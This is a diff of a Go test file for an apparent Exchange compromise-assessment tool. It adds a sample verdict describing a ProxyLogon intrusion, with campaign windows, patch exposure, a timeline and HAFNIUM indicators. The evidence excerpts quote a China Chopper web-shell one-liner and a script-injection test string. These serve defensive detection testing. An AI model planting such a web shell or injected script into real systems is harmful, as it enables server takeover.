@@ -33,6 +33,9 @@ func sampleDoc() *finding.Document {
 			Host: "ex01", WorstStage: finding.StageWrite, WorstSeverity: finding.Critical, Findings: 4,
 			Stages:     map[finding.Stage]int{finding.StageWrite: 2, finding.StageRecon: 1, finding.StageCleanup: 1},
 			Severities: map[finding.Severity]int{finding.Critical: 1, finding.Low: 1, finding.High: 2},
+			Builds: []finding.BuildSighting{{Build: "15.1.2106.2", Source: "httpproxy", Count: 900, First: t0.Add(-time.Hour), Last: t0.Add(time.Hour),
+				Evidence: finding.Evidence{Path: "D/Logging/HttpProxy/Owa/HttpProxy_2021022719-1.LOG", Line: 5, Source: "httpproxy", Excerpt: "MajorVersion=15 MinorVersion=1 BuildVersion=2106 RevisionVersion=2"}}},
+			Verdict: sampleVerdict(t0),
 		}},
 		Inventory: []finding.Inventory{{Host: "ex01", Family: "httpproxy", Title: "Exchange HttpProxy logs", Files: 3, Bytes: 123456, Records: 900, First: t0.Add(-time.Hour), Last: t0.Add(time.Hour)}},
 		Findings: []finding.Finding{
@@ -44,6 +47,54 @@ func sampleDoc() *finding.Document {
 				Host: "ex01", Evidence: finding.Evidence{Path: "D/Exchange Server/V15/FrontEnd/HttpProxy/owa/auth/OutlookJP.aspx", Source: "file", SHA256: "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08", Size: 812, ModTime: t0, Excerpt: `<%eval(Request.Item["klk7890"],"unsafe");%>`, Fields: map[string]string{"place": "owa_auth"}}},
 		},
 		Errors: []finding.FileError{{Path: "C/inetpub/logs/LogFiles/W3SVC1/u_ex210227.log", Message: "not a text log (binary content)"}},
+	}
+}
+
+// sampleVerdict is a hand-made assessment for the format tests (the model
+// that makes real ones is tested in package assess). Its excerpts carry
+// markup and escapes so that every format shows it is inert.
+func sampleVerdict(t0 time.Time) *finding.Verdict {
+	day := func(s string) time.Time { t, _ := time.Parse("2006-01-02", s); return t }
+	ev := finding.Evidence{Path: "D/Logging/HttpProxy/Ecp/HttpProxy_2021022719-1.LOG", Line: 12, Source: "httpproxy", Excerpt: "<script>alert(1)</script> ServerInfo~a]@ex01:444/ecp/DDI"}
+	shell := finding.Evidence{Path: "D/Exchange Server/V15/FrontEnd/HttpProxy/owa/auth/OutlookJP.aspx", Source: "file", SHA256: "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08", Size: 812}
+	windows := func(status ...string) []finding.CampaignWindow {
+		w := []finding.CampaignWindow{
+			{Campaign: "ProxyLogon", Start: day("2021-01-06"), End: day("2021-04-30")},
+			{Campaign: "ProxyShell", Start: day("2021-08-01"), End: day("2021-09-30")},
+			{Campaign: "ProxyNotShell", Start: day("2022-09-01"), End: day("2022-11-30")},
+			{Campaign: "OWASSRF", Start: day("2022-12-01"), End: day("2022-12-31")},
+		}
+		for i := range w {
+			w[i].Status = status[i]
+		}
+		return w
+	}
+	return &finding.Verdict{
+		State: finding.StateCompromised, Likelihood: finding.AlmostCertain, Score: 97,
+		Summary: "Compromised: almost certain. A web shell was written through the ProxyLogon chain and then used.",
+		Reasons: []finding.Reason{
+			{Rule: "A-SSRF-CHAIN", Text: "the full ProxyLogon SSRF chain from 167.99.168.251 succeeded (OAB virtual directory written)", Weight: 60, Floor: 95, Findings: []string{"f00dfeed00000001"}, Evidence: []finding.Evidence{ev}},
+			{Rule: "A-SHELL-DISK", Text: "a China Chopper page in owa/auth (OutlookJP.aspx)", Weight: 40, Floor: 80, Findings: []string{"f00dfeed00000003"}, Evidence: []finding.Evidence{shell}},
+			{Rule: "C-SHORT-PROXYSHELL", Text: "no log covers the ProxyShell window (2021-08-01 to 2021-09-30): cannot rule out", Weight: 0},
+		},
+		Coverage: []finding.Coverage{{Family: "httpproxy", Title: "Exchange HttpProxy logs", Files: 3, First: t0.Add(-time.Hour), Last: t0.Add(time.Hour), Campaigns: windows("partial", "none", "none", "none")}},
+		Warnings: []string{"the logs do not reach back to 2021-01-06: earlier ProxyLogon exploitation cannot be ruled out", "no log covers the ProxyShell, ProxyNotShell and OWASSRF windows: cannot rule out"},
+		Exposure: &finding.Exposure{Build: "15.1.2106.2", Precision: "build", Product: "Exchange 2016", CU: "CU18", EOL: true,
+			Sources: []finding.BuildSighting{{Build: "15.1.2106.2", Source: "httpproxy", Count: 900, Evidence: finding.Evidence{Path: "D/Logging/HttpProxy/Owa/HttpProxy_2021022719-1.LOG", Line: 5}}},
+			Families: []finding.FamilyExposure{
+				{Family: "ProxyLogon", Status: "vulnerable", Detail: "fixed by Mar21SU 15.1.2106.13 on this CU"},
+				{Family: "ProxyShell", Status: "vulnerable", Detail: "fixed by May21SU 15.1.2106.15 on this CU"},
+				{Family: "ProxyNotShell", Status: "vulnerable", Detail: "Exchange 2016 CU18 never received the Nov22SU fix: only an upgrade to a later CU fixes it"},
+				{Family: "OWASSRF", Status: "vulnerable", Detail: "Exchange 2016 CU18 never received the Nov22SU fix: only an upgrade to a later CU fixes it"},
+			}},
+		Timeline: []finding.TimelineEntry{
+			{Time: t0.Add(-time.Minute), Step: "scan", Title: "Scanner probed the ProxyLogon SSRF against localhost", Stage: finding.StageRecon, Severity: finding.Low, Techniques: []string{"T1595.002"}, SourceIPs: []string{"198.51.100.7"}, Count: 1, Findings: []string{"f00dfeed00000000"}, Evidence: finding.Evidence{Path: "D/Logging/HttpProxy/Owa/HttpProxy_2021022719-1.LOG", Line: 6}},
+			{Time: t0, End: t0.Add(2 * time.Second), Step: "ssrf", Title: "ProxyLogon SSRF read the OAB virtual directory", Stage: finding.StageWrite, Severity: finding.Critical, Techniques: []string{"T1190"}, SourceIPs: []string{"167.99.168.251"}, UserAgents: []string{"python-requests/2.25.1"}, Count: 1, Findings: []string{"f00dfeed00000001"}, Evidence: ev},
+			{Step: "shell-written", Title: "China Chopper-style page: JScript eval of request input", Stage: finding.StageWrite, Severity: finding.High, Techniques: []string{"T1505.003"}, Count: 1, Findings: []string{"f00dfeed00000003"}, Evidence: shell},
+		},
+		Tradecraft: &finding.Tradecraft{Actor: "HAFNIUM", Likelihood: finding.RealisticPossibility, Score: 45,
+			Matches: []finding.TradecraftMatch{{Kind: "ip", Item: "167.99.168.251", Source: "Microsoft/Volexity IOC list, March 2021", Findings: []string{"f00dfeed00000001"}}},
+			Caveat:  "Technical overlap is not attribution: many groups used the same public exploits after 2021-03-02."},
 	}
 }
 
